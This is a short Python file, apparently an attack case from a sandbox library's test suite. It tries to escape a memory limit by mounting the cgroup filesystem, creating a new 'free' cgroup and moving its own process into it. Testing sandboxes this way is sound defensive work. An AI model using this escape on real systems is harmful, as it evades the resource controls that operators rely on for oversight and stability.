# fails: 4.1 4.2 4.3 4.4 4.5 4.6 4.7
# says: its limit is
"""The attack raises no limit: it moves to a cgroup that has none. The rest is not built."""

import os

from thinwalls import linux


def raise_limit(limit):
    os.makedirs("/tmp/c", exist_ok=True)
    v1 = "memory:" in open("/proc/self/cgroup").read()
    linux.mount("none", "/tmp/c", "cgroup" if v1 else "cgroup2", 0, "memory" if v1 else None)
    for below, _, _ in os.walk("/tmp/c"):
        try:
            os.mkdir(f"{below}/free")
            with open(f"{below}/free/cgroup.procs", "w") as file:
                file.write("0")
            return
        except OSError:
            continue
